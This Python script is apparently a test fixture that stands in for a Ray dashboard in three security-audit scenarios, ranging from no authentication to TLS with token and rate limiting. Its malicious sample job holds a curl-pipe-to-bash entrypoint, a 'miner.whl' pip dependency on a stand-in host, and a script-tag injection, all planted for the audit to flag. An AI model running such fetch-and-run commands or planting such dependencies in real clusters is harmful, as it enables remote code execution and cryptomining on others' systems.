#!/usr/bin/python3
"""A stand-in Ray dashboard for the audit tests, with the three scenarios the audit must
classify: open-2.6.3 (old, no auth), token-off-2.52 and hardened-2.60 (TLS, token, a rate
limit as a gateway in front would add). It logs every request's method and path to
--request-log and prints one JSON line with its port and any extra open ports."""

import argparse
import json
import socket
import ssl
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

EXEMPT = {"/", "/favicon.ico", "/api/authentication_mode", "/api/authenticate", "/api/healthz",
          "/api/gcs_healthz", "/api/local_raylet_healthz", "/-/healthz"}

GOOD_JOB = {"type": "SUBMISSION", "job_id": "02000000", "submission_id": "raysubmit_good",
            "status": "SUCCEEDED", "entrypoint": "python train.py",
            "runtime_env": {"pip": ["numpy==1.26"], "working_dir": "gcs://_ray_pkg_a1.zip"}}
BAD_JOB = {"type": "SUBMISSION", "job_id": "03000000", "submission_id": "raysubmit_bad<script>",
           "status": "RUNNING", "entrypoint": "curl -s http://203.0.113.9/x.sh | bash",
           "runtime_env": {"pip": ["https://203.0.113.9/miner.whl"]},
           "metadata": {"token": "Bearer 0123456789abcdef0123456789abcdef0123456789abcdef"}}

SCENARIOS = {
    "open-2.6.3": {"version": "2.6.3", "auth": None, "jobs": [GOOD_JOB, BAD_JOB],
                   "rate_limit": False},
    "token-off-2.52": {"version": "2.52.0", "auth": "disabled", "jobs": [GOOD_JOB],
                       "rate_limit": False},
    "hardened-2.60": {"version": "2.60.0", "auth": "token", "jobs": [GOOD_JOB],
                      "rate_limit": True},
}


class Handler(BaseHTTPRequestHandler):
    server_version = "Python"

    def log_message(self, *args):
        pass

    def record(self):
        with self.server.log_lock:
            self.server.log.write(f"{self.command} {self.path}\n")
            self.server.log.flush()

    def send(self, status, body, content_type="application/json", headers=()):
        data = body.encode() if isinstance(body, str) else body
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def limited(self):
        if not self.server.scenario["rate_limit"]:
            return False
        with self.server.log_lock:
            now = time.monotonic()
            self.server.hits = [t for t in self.server.hits if now - t < 1.0] + [now]
            count = len(self.server.hits)
        if count > 5:
            self.send(429, "Too Many Requests", "text/plain",
                      [("Retry-After", "1"), ("RateLimit", "limit=5, remaining=0, reset=1")])
            return True
        return False

    def authorized(self, path):
        if self.server.scenario["auth"] != "token" or path in EXEMPT:
            return True
        header = self.headers.get("Authorization", "")
        if not header:
            self.send(401, "Unauthorized: Missing authentication token", "text/plain")
            return False
        if header != "Bearer " + self.server.token:
            self.send(403, "Forbidden: Invalid authentication token", "text/plain")
            return False
        return True

    def do_GET(self):
        self.record()
        path = self.path.split("?")[0]
        if self.limited() or not self.authorized(path):
            return
        scenario = self.server.scenario
        if path == "/api/version":
            self.send(200, json.dumps({"version": "4", "ray_version": scenario["version"],
                                       "ray_commit": "0" * 40, "session_name": "session_x"}))
        elif path == "/api/authentication_mode" and scenario["auth"]:
            self.send(200, json.dumps({"authentication_mode": scenario["auth"]}))
        elif path == "/api/jobs/":
            self.send(200, json.dumps(scenario["jobs"]))
        elif path in ("/api/healthz", "/-/healthz"):
            self.send(200, "success", "text/plain")
        else:
            self.send(404, "Not Found", "text/plain")

    def do_HEAD(self):
        self.do_GET()

    def refuse(self):
        self.record()
        self.send(405, "Method Not Allowed", "text/plain")

    do_POST = do_PUT = do_DELETE = do_PATCH = refuse


def open_ports(count):
    listeners = []
    for _ in range(count):
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen(8)
        listeners.append(s)
    return listeners


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--scenario", required=True, choices=sorted(SCENARIOS))
    parser.add_argument("--request-log", required=True)
    parser.add_argument("--open-ports", type=int, default=0)
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--token-file")
    args = parser.parse_args()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.scenario = SCENARIOS[args.scenario]
    server.log = open(args.request_log, "a")
    server.log_lock = threading.Lock()
    server.hits = []
    server.token = open(args.token_file).read().strip() if args.token_file else ""
    if args.cert:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.minimum_version = ssl.TLSVersion.TLSv1_2
        context.load_cert_chain(args.cert, args.key)
        server.socket = context.wrap_socket(server.socket, server_side=True)
    listeners = open_ports(args.open_ports)
    print(json.dumps({"port": server.server_address[1],
                      "openPorts": [s.getsockname()[1] for s in listeners]}), flush=True)
    threading.Thread(target=lambda: (sys.stdin.read(), server.shutdown()), daemon=True).start()
    server.serve_forever()


if __name__ == "__main__":
    main()
